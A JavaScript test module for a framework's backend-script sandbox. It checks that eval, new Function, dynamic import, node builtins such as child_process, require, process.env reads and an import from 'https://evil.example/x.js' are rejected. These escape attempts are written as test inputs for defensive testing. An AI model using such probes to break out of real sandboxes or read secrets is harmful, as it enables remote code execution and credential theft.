const runtime = `<script scope="backend">
const out = {};
try { out.eval = eval('typeof globalThis.process + typeof globalThis.require'); } catch (e) { out.eval = 'threw:' + e.name; }
try { out.fn = new Function('return typeof globalThis.process')(); } catch (e) { out.fn = 'threw:' + e.name; }
try { await eval('import("fs")'); out.dyn = 'resolved'; } catch (e) { out.dyn = 'threw:' + (e && e.name); }
try { await eval('import("./scripts/a9-local.js")'); out.dynLocal = 'resolved'; } catch (e) { out.dynLocal = 'threw:' + (e && e.name); }
response.json(out);
</script>
`;
const page = (src) => ({ "p.ef": `<script scope="backend">\n${src}\n</script>\n<p>x</p>\n` });
export default {
  id: "A9",
  title: "eval / new Function / import() / non-site imports",
  pages: { "a9.ef": runtime },
  scripts: { "a9-local.js": "export const x = 1;\n" },
  compile: [
    { name: "dynamic import", pages: page(`const m = await import("fs");`), codes: ["PC3006"] },
    { name: "import.meta", pages: page(`setVariable('u', import.meta.url);`), codes: ["PC3006"] },
    { name: "node builtin", pages: page(`import fs from "fs";\nsetVariable('x', typeof fs);`), codes: ["PC3002"] },
    { name: "node: builtin", pages: page(`import cp from "node:child_process";\nsetVariable('x', typeof cp);`), codes: ["PC3002"] },
    { name: "url import", pages: page(`import x from "https://evil.example/x.js";\nsetVariable('x', x);`), codes: ["PC3002"] },
    { name: "other brand", pages: page(`import x from "../../other-brand/app";\nsetVariable('x', x);`), codes: ["PC3002"] },
    { name: "require", pages: page(`const fs = require('fs');`), codes: ["PC3007"] },
    { name: "process", pages: page(`setVariable('env', process.env);`), codes: ["PC3007"] },
  ],
  requests: [{
    url: "/a9", status: 200,
    check(res, expect) {
      const out = res.json();
      expect(out.eval === "undefinedundefined" || out.eval.startsWith("threw:")).toBe(true);
      expect(out.fn === "undefined" || out.fn.startsWith("threw:")).toBe(true);
      expect(out.dyn).toMatch(/^threw:/);
      expect(out.dynLocal).toMatch(/^threw:/);
    },
  }],
};
